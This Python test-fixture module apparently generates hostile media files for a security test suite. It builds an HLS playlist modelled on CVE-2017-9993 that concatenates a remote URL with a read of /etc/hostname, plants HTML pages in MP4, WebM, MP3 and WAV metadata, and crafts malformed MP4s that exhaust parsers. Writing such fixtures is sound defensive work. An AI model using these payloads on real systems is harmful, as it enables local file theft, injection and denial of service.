"""Films and recordings that read, fetch or lie about what they hold."""

from __future__ import annotations

import struct

from tests import files_world
from tests.hostile.pages import html


def playlist(to: str) -> bytes:
    return f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:{to}/list|file:///etc/hostname\n#EXT-X-ENDLIST\n".encode()


def playlist_in_avi(to: str) -> bytes:
    """As CVE-2017-9993 had it: a subtitle track that is a playlist."""
    inside = b"GAB2\0\2\0" + bytes(10) + playlist(to)
    body = b"AVI " + _riff(b"LIST", b"hdrl" + _riff(b"avih", bytes(56))) + _riff(b"LIST", b"movi" + _riff(b"00tx", inside))
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _riff(name: bytes, body: bytes) -> bytes:
    return name + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


def mp4_with_html(to: str) -> bytes:
    page = html(to).decode()
    return files_world.make_mp4(4, title=page, artist=page, telemetry=html(to))


def mp4_elsewhere(to: str) -> bytes:
    film = files_world.make_mp4(4)
    at = film.index(b"url \0\0\0\1")
    return film[: at + 4] + bytes(4) + film[at + 8 :]


def mp4_of_many_samples(to: str) -> bytes:
    film = files_world.make_mp4(4)
    at = film.index(b"stsz")
    return film[: at + 12] + b"\xff\xff\xff\xff" + film[at + 16 :]


def mp4_of_many_boxes(to: str) -> bytes:
    inside = b""
    for _ in range(100_000):
        inside = struct.pack(">I4s", 8 + min(len(inside), 1000), b"trak") + inside[:1000]
    deep = b"".join(struct.pack(">I4s", 8 * (100_000 - depth), b"moov") for depth in range(100_000))
    return b"\0\0\0\x14ftypisom\0\0\2\0isom" + deep + inside


def webm_with_attachment(to: str) -> bytes:
    """A head, and a page among the attachments (https://www.rfc-editor.org/rfc/rfc9559 section 5.1.6)."""
    page = html(to)
    file = b"\x46\x6e" + _size(4) + b"a.ht" + b"\x46\x60" + _size(9) + b"text/html" + b"\x46\x5c" + _size(len(page)) + page
    attached = b"\x61\xa7" + _size(len(file)) + file
    return bytes.fromhex("1a45dfa3 87 4282 84") + b"webm" + b"\x18\x53\x80\x67" + _size(len(attached)) + b"\x19\x41\xa4\x69" + attached


def _size(length: int) -> bytes:
    return (0x10000000 | length).to_bytes(4)


def mp3_with_html(to: str) -> bytes:
    return files_world.make_mp3(author=html(to).decode()[:100])


def wav_with_html(to: str) -> bytes:
    return files_world.make_wav(author=html(to).decode())
